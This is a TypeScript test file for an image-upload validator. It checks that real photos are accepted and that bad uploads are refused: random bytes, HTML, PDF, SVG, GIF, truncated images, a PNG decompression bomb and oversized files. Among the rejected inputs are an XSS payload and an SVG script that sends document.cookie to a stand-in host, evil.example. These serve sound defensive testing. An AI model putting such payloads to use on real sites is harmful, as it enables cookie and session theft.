import { randomBytes } from "node:crypto"
import sharp from "sharp"
import { describe, expect, it } from "vitest"
import { inspectUpload, UploadRejectedError, type UploadRejectionCode } from ".."
import { jpegCompleteness, pngCompleteness, sniffImage } from "../inspect"
import { fakeHeic, fixture, pngBomb } from "./helpers"

async function rejection(bytes: Buffer, limits?: Parameters<typeof inspectUpload>[1]): Promise<UploadRejectedError> {
  try {
    await inspectUpload(bytes, limits)
  } catch (err) {
    expect(err).toBeInstanceOf(UploadRejectedError)
    return err as UploadRejectedError
  }
  throw new Error("upload was accepted")
}

async function expectRejected(bytes: Buffer, code: UploadRejectionCode, message?: RegExp) {
  const err = await rejection(bytes)
  expect(err.code).toBe(code)
  expect(err.field).toBe("image")
  // a sentence for the shopper: no stack-trace words, no libvips jargon
  expect(err.message).toMatch(/^[A-Z].*\.$/)
  expect(err.message).not.toMatch(/vips|sharp|buffer|undefined|Error/)
  if (message) expect(err.message).toMatch(message)
  return err
}

describe("inspectUpload accepts the photo fixtures", () => {
  it.each([
    ["cat-chelsea.png", "png", "image/png", 451, 300, 1],
    ["cat-tabby-large-3456x2304.jpg", "jpeg", "image/jpeg", 3456, 2304, 1],
    ["cat-tortoiseshell-white.webp", "webp", "image/webp", 2848, 2848, 1],
    ["dog-beagle-landscape.jpg", "jpeg", "image/jpeg", 1125, 750, 1],
    ["dog-beagle-exif-orientation-6.jpg", "jpeg", "image/jpeg", 1125, 750, 6],
    ["dog-and-person-portrait.jpg", "jpeg", "image/jpeg", 640, 962, 1],
    ["dog-bicycle-street.jpg", "jpeg", "image/jpeg", 768, 576, 1],
    ["by-sa/cat-grey-dark-background.jpg", "jpeg", "image/jpeg", 2448, 2448, 1],
  ] as const)("%s", async (name, format, mimeType, width, height, exifOrientation) => {
    expect(await inspectUpload(fixture(name))).toEqual({ format, mimeType, width, height, exifOrientation })
  })

  it("reports the displayed size of an EXIF-rotated photo (stored 750×1125, orientation 6)", async () => {
    const stored = await sharp(fixture("dog-beagle-exif-orientation-6.jpg")).metadata()
    expect([stored.width, stored.height]).toEqual([750, 1125])
    const info = await inspectUpload(fixture("dog-beagle-exif-orientation-6.jpg"))
    expect([info.width, info.height, info.exifOrientation]).toEqual([1125, 750, 6])
  })

  it("accepts AVIF and HEIC by their ftyp brand", async () => {
    const avif = await sharp(fixture("cat-chelsea.png")).avif({ quality: 40, effort: 0 }).toBuffer()
    expect(await inspectUpload(avif)).toMatchObject({ format: "avif", mimeType: "image/avif", width: 451, height: 300 })
    expect(await inspectUpload(fakeHeic(4032, 3024))).toMatchObject({
      format: "heif",
      mimeType: "image/heic",
      width: 4032,
      height: 3024,
    })
  })

  it("accepts a JPEG with bytes after its end marker (padding, a phone's motion-photo trailer)", async () => {
    const photo = fixture("dog-bicycle-street.jpg")
    const withTrailer = Buffer.concat([photo, Buffer.alloc(4096), Buffer.from("ftypmp42 pretend video")])
    expect((await inspectUpload(withTrailer)).format).toBe("jpeg")
  })

  it("judges the content, not a name: a PNG is a PNG whatever it was called", () => {
    expect(sniffImage(fixture("cat-chelsea.png"))).toMatchObject({ ok: true, format: "png" })
  })
})

describe("inspectUpload refuses hostile or broken uploads", () => {
  it("refuses random bytes and text as not a photo", async () => {
    await expectRejected(randomBytes(5000), "NOT_AN_IMAGE", /not a photo.*JPEG, PNG, WebP or HEIC/)
    await expectRejected(Buffer.from("Hello, this is my cat's name and address.\n".repeat(20)), "NOT_AN_IMAGE")
    await expectRejected(Buffer.from("<!DOCTYPE html><html><body><img src=x onerror=alert(1)></body></html>"), "NOT_AN_IMAGE")
    await expectRejected(Buffer.from("%PDF-1.7\n1 0 obj <<>> endobj\n%%EOF\n"), "NOT_AN_IMAGE")
    await expectRejected(Buffer.alloc(0), "EMPTY")
  })

  it("refuses an SVG, even one that calls itself a photo", async () => {
    const svg = Buffer.from(
      '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100">' +
        '<script>fetch("https://evil.example/?c="+document.cookie)</script><rect width="100" height="100"/></svg>'
    )
    await expectRejected(svg, "UNSUPPORTED_FORMAT", /SVG files are not supported/)
  })

  it("refuses a GIF", async () => {
    const gif = await sharp({ create: { width: 40, height: 30, channels: 3, background: "#884422" } })
      .gif()
      .toBuffer()
    await expectRejected(gif, "UNSUPPORTED_FORMAT", /GIF files are not supported/)
  })

  it("refuses a truncated JPEG (first 60% of a fixture) without decoding it", async () => {
    const photo = fixture("cat-tabby-large-3456x2304.jpg")
    const started = performance.now()
    await expectRejected(photo.subarray(0, Math.floor(photo.length * 0.6)), "TRUNCATED", /cut off/)
    expect(performance.now() - started).toBeLessThan(500)
  })

  it("refuses truncated PNG and WebP files", async () => {
    const png = fixture("cat-chelsea.png")
    await expectRejected(png.subarray(0, Math.floor(png.length * 0.6)), "TRUNCATED")
    const webp = fixture("cat-tortoiseshell-white.webp")
    await expectRejected(webp.subarray(0, Math.floor(webp.length * 0.6)), "TRUNCATED")
  })

  it("refuses a 20000×20000 PNG bomb from its header, quickly and without decoding it", async () => {
    const bomb = await pngBomb(20_000)
    expect(bomb.length).toBeLessThan(2 * 1024 * 1024)
    const rssBefore = process.memoryUsage().rss
    const started = performance.now()
    const err = await expectRejected(bomb, "TOO_MANY_PIXELS", /20000 × 20000 pixels \(400 megapixels\).*at most 50 megapixels/)
    expect(performance.now() - started).toBeLessThan(1000)
    // decoding would need 400 MB or more
    expect(process.memoryUsage().rss - rssBefore).toBeLessThan(100 * 1024 * 1024)
    expect(err.message).toContain("smaller")
  })

  it("refuses a 30 MB upload before anything else", async () => {
    const head = fixture("dog-bicycle-street.jpg").subarray(0, 2000)
    const big = Buffer.concat([head, Buffer.alloc(30 * 1024 * 1024 - head.length)])
    const started = performance.now()
    const err = await expectRejected(big, "TOO_LARGE")
    expect(err.message).toBe("This file is 30.0 MB; photos can be at most 25 MB.")
    expect(performance.now() - started).toBeLessThan(100)
  })

  it("applies custom limits", async () => {
    const photo = fixture("dog-beagle-landscape.jpg")
    expect((await rejection(photo, { maxBytes: 10_000 })).code).toBe("TOO_LARGE")
    expect((await rejection(photo, { maxPixels: 500_000 })).code).toBe("TOO_MANY_PIXELS")
    expect((await inspectUpload(photo, { maxPixels: 1125 * 750 })).width).toBe(1125)
  })

  it("refuses a JPEG whose header is garbage as unreadable", async () => {
    const bad = Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), randomBytes(3000)])
    const err = await rejection(bad)
    expect(["UNREADABLE", "TRUNCATED"]).toContain(err.code)
    expect(err.message).toMatch(/JPEG, PNG, WebP or HEIC|upload it again/)
  })
})

describe("container completeness checks", () => {
  it("finds the real end of a JPEG, not the end of the thumbnail inside its EXIF", () => {
    const photo = fixture("cat-tabby-large-3456x2304.jpg")
    // the camera's EXIF block (APP1) holds a whole JPEG thumbnail, EOI marker included
    const thumbEnd = photo.indexOf(Buffer.from([0xff, 0xd9]))
    expect(thumbEnd).toBeGreaterThan(0)
    expect(thumbEnd).toBeLessThan(4 + photo.readUInt16BE(4))
    expect(jpegCompleteness(photo)).toBe("complete")
    expect(jpegCompleteness(photo.subarray(0, thumbEnd + 2 + 1000))).toBe("truncated")
    expect(jpegCompleteness(photo.subarray(0, photo.length - 2))).toBe("truncated")
  })

  it("walks PNG chunks to IEND", () => {
    const png = fixture("cat-chelsea.png")
    expect(pngCompleteness(png)).toBe("complete")
    expect(pngCompleteness(png.subarray(0, png.length - 12))).toBe("truncated")
  })
})
